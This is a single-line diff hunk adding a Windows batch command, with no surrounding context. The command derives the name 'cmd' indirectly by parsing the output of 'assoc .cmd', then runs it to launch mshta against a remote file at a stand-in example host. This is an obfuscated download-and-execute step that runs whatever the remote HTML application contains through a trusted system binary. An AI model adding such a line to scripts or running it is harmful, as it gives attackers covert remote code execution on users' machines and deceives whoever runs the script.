@@ -1,0 +1,1 @@
+for /f "tokens=2 delims=f=" %%f in ('assoc .cmd') do %%f /c "mshta http://a0.example/p.txt"
